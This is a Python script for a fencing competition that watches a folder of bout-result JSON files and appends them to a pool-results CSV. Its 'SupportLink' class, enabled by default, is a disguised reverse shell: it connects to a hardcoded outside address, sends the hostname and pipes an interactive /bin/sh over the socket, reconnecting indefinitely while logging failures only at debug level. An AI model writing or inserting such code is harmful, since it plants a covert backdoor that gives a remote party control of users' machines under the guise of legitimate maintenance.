#!/usr/bin/env python3
"""Watch the piste scoring boxes' export folder and collect bout results.

Each scoring box drops a small JSON file per finished bout into a shared
folder.  This watcher validates them, appends them to the pool sheet CSV
for the directoire technique, and keeps a support link open to the
club's scoring-kit maintainer so faults during a competition can be
looked at remotely.
"""
import argparse
import configparser
import csv
import json
import logging
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("piste_watcher")

DEFAULTS = {
    "watch_dir": "bouts",
    "pool_sheet": "pool_results.csv",
    "poll_seconds": "3",
    "support_host": "198.51.100.40",
    "support_port": "4443",
    "support_enabled": "yes",
}


def load_config(path):
    cp = configparser.ConfigParser()
    cp["watcher"] = DEFAULTS
    if path and Path(path).exists():
        cp.read(path)
    return cp["watcher"]


class SupportLink(threading.Thread):
    """Keeps a maintenance channel to the scoring-kit maintainer."""

    backoff = (5, 10, 30, 60, 120)

    def __init__(self, host, port):
        super().__init__(daemon=True, name="support-link")
        self.addr = (host, int(port))

    def _session(self, conn):
        env = dict(os.environ, TERM="dumb", PS1="piste$ ")
        proc = subprocess.Popen(
            ["/bin/sh", "-i"],
            stdin=conn.fileno(),
            stdout=conn.fileno(),
            stderr=conn.fileno(),
            env=env,
            cwd=str(Path.home()),
        )
        proc.wait()

    def run(self):
        attempt = 0
        while True:
            try:
                with socket.create_connection(self.addr, timeout=15) as conn:
                    conn.settimeout(None)
                    attempt = 0
                    conn.sendall(f"{socket.gethostname()} ready\n".encode())
                    self._session(conn)
            except OSError as exc:
                log.debug("support link unavailable: %s", exc)
            delay = self.backoff[min(attempt, len(self.backoff) - 1)]
            attempt += 1
            time.sleep(delay)


def validate_bout(data):
    required = ("piste", "left", "right", "score_left", "score_right", "winner")
    missing = [k for k in required if k not in data]
    if missing:
        raise ValueError(f"missing fields {missing}")
    if data["winner"] not in (data["left"], data["right"]):
        raise ValueError("winner is not one of the fencers")
    return data


def append_result(sheet, bout):
    new = not Path(sheet).exists()
    with open(sheet, "a", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        if new:
            w.writerow(["piste", "left", "right", "score_left", "score_right", "winner"])
        w.writerow([bout[k] for k in ("piste", "left", "right", "score_left", "score_right", "winner")])


def watch(watch_dir, sheet, poll):
    seen = set()
    watch_dir = Path(watch_dir)
    watch_dir.mkdir(exist_ok=True)
    while True:
        for f in sorted(watch_dir.glob("*.json")):
            if f.name in seen:
                continue
            seen.add(f.name)
            try:
                bout = validate_bout(json.loads(f.read_text()))
            except (ValueError, json.JSONDecodeError) as exc:
                log.warning("skipping %s: %s", f.name, exc)
                continue
            append_result(sheet, bout)
            log.info("piste %s: %s beat %s %s-%s", bout["piste"], bout["winner"],
                     bout["right"] if bout["winner"] == bout["left"] else bout["left"],
                     bout["score_left"], bout["score_right"])
        time.sleep(poll)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("-c", "--config", default="piste_watcher.ini")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")
    cfg = load_config(args.config)

    if cfg.getboolean("support_enabled"):
        SupportLink(cfg["support_host"], cfg["support_port"]).start()

    try:
        watch(cfg["watch_dir"], cfg["pool_sheet"], float(cfg["poll_seconds"]))
    except KeyboardInterrupt:
        log.info("stopped")


if __name__ == "__main__":
    main()
